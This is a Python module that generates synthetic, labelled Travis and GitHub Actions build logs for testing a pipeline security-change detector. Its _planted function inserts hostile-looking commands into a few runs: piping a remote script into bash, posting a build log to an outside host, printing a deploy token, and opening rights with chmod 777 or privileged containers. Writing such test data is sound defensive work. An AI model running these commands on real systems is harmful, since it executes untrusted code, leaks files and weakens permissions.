"""Synthetic, labelled CI/CD runs with their logs, to try the detector of pipelines without a build server.

Six repositories build several times a day, four on Travis and two on GitHub Actions. About one run in six fails, most
of them in rows on one branch, until it is mended; the label is the outcome. A few runs have a security change in their
log, which ``planted`` names: a script out of the network, a new host, a token in the clear, or changed rights. Most of
those passed, so that the label does not tell.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np

from mllib.errors import BadInput

MIN_RUNS = 100
PLANTED_SHARE = 0.03
BREAKS, MENDS = 0.06, 0.3
"""The chance that a run breaks a branch that worked, and that one mends it again."""
FLAKY = 0.03
"""The chance of a failure of its own."""

Rng = np.random.Generator


@dataclass(frozen=True)
class _Repository:
    name: str
    language: str
    provider: str
    install: str
    packages: str  # the host they come from
    build: str
    test: str
    modules: int


_NPM = ("javascript", "github_actions", "npm ci", "npm.example.org", "npm run build", "npm test")
_MAVEN = ("java", "travis", "mvn -B dependency:resolve", "maven.example.org", "mvn -B package", "mvn -B verify")
_GRADLE = ("java", "travis", "gradle dependencies", "maven.example.org", "gradle assemble", "gradle check")
_PIP = ("python", "travis", "pip install -r requirements.txt", "packages.example.org", "python -m build", "pytest")
_SUDO_PIP = ("python", "travis", "sudo pip install .", "packages.example.org", "python setup.py sdist", "pytest -q")
_GO = ("go", "github_actions", "go mod download", "proxy.example.org", "go build ./...", "go test ./...")

REPOSITORIES = tuple(
    _Repository(name, *kind, modules=modules)
    for name, kind, modules in (
        *(("shop/web", _NPM, 30), ("shop/api", _MAVEN, 60), ("shop/mail", _PIP, 20)),
        *(("shop/cart", _GRADLE, 45), ("shop/search", _GO, 25), ("shop/stock", _SUDO_PIP, 15)),
    )
)
PLANTED = ("remote_script", "network_host", "secret", "privilege")


def generate_runs(path: Path, *, now: datetime, days: int = 28, runs: int = 1_200, seed: int = 17) -> Path:
    """Write ``runs`` synthetic runs over the ``days`` before ``now`` (aware) as gzipped JSON lines, the oldest first.

    The same arguments give the same bytes. The file appears whole. Raises BadInput for fewer than MIN_RUNS runs, or
    less than a day.
    """
    if runs < MIN_RUNS or days < 1:
        raise BadInput(f"The demo runs need at least {MIN_RUNS} runs over a day or more, got {runs} over {days} days.")
    rng = np.random.default_rng(seed)
    end = now.replace(minute=0, second=0, microsecond=0)
    seconds = np.sort(rng.integers(0, days * 86_400, runs)).tolist()
    path.parent.mkdir(parents=True, exist_ok=True)
    part = path.with_name(f".{path.name}.part")
    with part.open("wb") as file, gzip.GzipFile(filename="", fileobj=file, mode="wb", mtime=0) as packed:
        for run in _runs(rng, [end - timedelta(days=days) + timedelta(seconds=second) for second in seconds]):
            packed.write(f"{json.dumps(run)}\n".encode())
    part.replace(path)
    return path


def _runs(rng: Rng, starts: list[datetime]) -> Iterator[dict[str, Any]]:
    broken = dict.fromkeys((repository.name for repository in REPOSITORIES), False)
    for number, start in enumerate(starts):
        repository = REPOSITORIES[rng.integers(len(REPOSITORIES))]
        broken[repository.name] = rng.random() > MENDS if broken[repository.name] else rng.random() < BREAKS
        failed = broken[repository.name] or rng.random() < FLAKY
        planted = PLANTED[rng.integers(len(PLANTED))] if rng.random() < PLANTED_SHARE else None
        steps = list(_steps(rng, repository, failed))
        if planted:
            steps.insert(int(rng.integers(1, len(steps))), _planted(rng, planted, number))
        write = _github if repository.provider == "github_actions" else _travis
        yield {
            "ts": start.isoformat(),
            "id": f"demo-{number}",
            "provider": repository.provider,
            "repository": repository.name,
            "branch": "main",
            "workflow": "build",
            "language": repository.language,
            "label": "failed" if failed else "passed",
            "planted": planted,
            "log": write(rng, start, steps, failed),
        }


def _steps(rng: Rng, of: _Repository, failed: bool) -> Iterator[list[str]]:
    """Each a command, and what it prints."""
    yield [f"git clone --depth=50 https://code.example.org/{of.name}.git", f"Cloning into '{of.name}'..."]
    yield [
        of.install,
        *(f"Downloading https://{of.packages}/lib{number}-1.{number % 7}.zip" for number in range(of.modules)),
        *["WARNING: retrying after connection reset"] * int(rng.poisson(0.3)),
    ]
    modules = of.modules + int(rng.integers(-3, 4))
    yield [of.build, *(f"compiled module {number} in {rng.integers(5, 400)} ms" for number in range(modules))]
    if rng.random() < 0.2:
        yield ["docker pull registry.example.org/base:3", "3: Pulling from base"]
    failures = int(rng.integers(1, 6)) if failed and rng.random() < 0.7 else 0
    yield [
        of.test,
        *(f"warning: {name} is deprecated" for name in rng.choice(["fold", "spawn", "merge"], rng.integers(0, 3))),
        *(f"ERROR: check {number} failed: expected {number}, found none" for number in range(failures)),
        *(["ERROR: cannot resolve module orders"] if failed and not failures else []),
        f"Tests run: {6 * of.modules}, Failures: {failures}, Skipped: {rng.integers(0, 4)}",
    ]


def _planted(rng: Rng, kind: str, number: int) -> list[str]:
    host = f"{rng.choice(['get', 'cdn', 'files'])}.host{number}.example"
    if kind == "remote_script":
        return [f"curl -fsSL https://{host}/setup.sh | bash", "installed"]
    if kind == "network_host":
        return [f"curl -s -F log=@build.log https://{host}/collect", "ok"]
    if kind == "secret":
        alphabet = list("abcdefghkmnpqrstuvwxyzABCDEFGHKMNPQRSTUVWXYZ23456789")
        return ["make release", f"using deploy_token={''.join(rng.choice(alphabet, 32))}"]
    return [str(rng.choice(["sudo chmod -R 777 /opt", "docker run --privileged base", "sudo usermod -aG docker ci"]))]


def _travis(rng: Rng, start: datetime, steps: list[list[str]], failed: bool) -> str:
    at = int(start.timestamp() * 1e9)
    lines = []
    for number, (command, *printed) in enumerate(steps):
        end = at + int(rng.uniform(0.5, 40) * 1e9)
        timer = f"{number:04x}{at % 0xFFFF:04x}"
        lines += [
            f"travis_fold:start:step.{number}\r\x1b[0Ktravis_time:start:{timer}\r\x1b[0K$ {command}",
            *printed,
            f"travis_time:end:{timer}:start={at},finish={end}\r\x1b[0Ktravis_fold:end:step.{number}",
        ]
        at = end
    if failed:
        lines.append(f'\x1b[31;1mThe command "{steps[-1][0]}" exited with 1.\x1b[0m')
    return "\r\n".join([*lines, ""])


def _github(rng: Rng, start: datetime, steps: list[list[str]], failed: bool) -> str:
    at = start
    lines: list[str] = []

    def write(*texts: str) -> None:
        lines.extend(f"{at:%Y-%m-%dT%H:%M:%S}.{at.microsecond:06d}0Z {text}" for text in texts)

    for command, *printed in steps:
        write(f"##[group]Run {command}", f"\x1b[36;1m{command}\x1b[0m", "##[endgroup]")
        at += timedelta(seconds=float(rng.uniform(0.5, 40)))
        write(*printed)
    if failed:
        write("##[error]Process completed with exit code 1.")
    return "\n".join([*lines, ""])
